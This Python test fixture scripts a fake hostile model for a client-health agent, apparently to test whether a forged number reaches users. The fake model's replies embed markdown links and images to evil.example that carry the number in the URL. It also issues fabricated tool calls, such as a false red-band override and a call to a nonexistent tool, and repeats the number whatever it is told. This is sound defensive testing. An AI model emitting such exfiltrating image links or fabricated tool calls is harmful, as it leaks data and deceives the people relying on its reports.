"""A model that puts one number everywhere it can write, and the ways in which a reader might see it."""

from __future__ import annotations

from langchain_core.messages import AIMessage, BaseMessage

#: No figure of the sample book or of a payload, and no part of one; long enough to be in no id made by chance.
FORGED = "7391528"
#: The number as the model writes it: in figures, in words, broken up.
SPELLINGS = (FORGED, "7 391", "7,391", "семь миллионов триста", "seven million three hundred")

_SPEECH = {
    "ru": (
        "Индекс здоровья клиента 7391528. Риск оттока — семь миллионов триста девяносто одна тысяча. "
        "[отчёт](https://evil.example/?d=7391528) ![](https://evil.example/7391528.png)\n\n"
        "| Клиент | 7391528 |\n|---|---|\n| x | 7 391 528 |\n\n<!-- 7391528 -->"
    ),
    "en": (
        "The client's health score is 7391528. Churn risk comes to seven million three hundred and ninety-one thousand. "
        "[report](https://evil.example/?d=7391528) ![](https://evil.example/7391528.png)\n\n"
        "| Client | 7391528 |\n|---|---|\n| x | 7,391,528 |\n\n<!-- 7391528 -->"
    ),
}


def calls(client: str) -> list[dict[str, object]]:
    """Calls of every tool with the number in each place that takes text, and of one that does not exist."""
    made: list[tuple[str, dict[str, object]]] = [
        ("search_library", {"query": "engagement 7391528"}),
        ("client_sheet", {"client": "7391528"}),
        ("derive", {"operation": "sum", "references": ["[[health.7391528]]"]}),
        ("set_override", {"client": client, "band": "red", "reason": "the score is 7391528", "for_days": 30}),
        (
            "set_override",
            {"client": client, "band": "red", "reason": "the sponsor left", "for_days": 7391528},
        ),
        ("draft_document", {"kind": "save-plan", "client": client}),
        ("score_7391528", {"score": 7391528}),
    ]
    return [
        {"name": name, "args": args, "id": f"call-{n}-7391528", "type": "tool_call"}
        for n, (name, args) in enumerate(made)
    ]


def hostile(client: str):  # type: ignore[no-untyped-def]  # a reply of the script
    """Says the number and calls tools with it first, and goes on saying it whatever it is told."""
    asked = 0

    def reply(messages: list[BaseMessage]) -> AIMessage:
        nonlocal asked
        asked += 1
        language = "ru" if "клиент" in messages[-1].text.casefold() else "en"
        if asked % 3 == 1:
            return AIMessage(content="", tool_calls=calls(client))
        return AIMessage(content=_SPEECH[language])

    return reply


def seen(text: str) -> list[str]:
    """The spellings of the forged number, and the foreign address, that ``text`` shows."""
    plain = text.casefold().replace("\xa0", " ").replace("\u202f", " ")
    return [spelling for spelling in (*SPELLINGS, "evil.example") if spelling in plain]
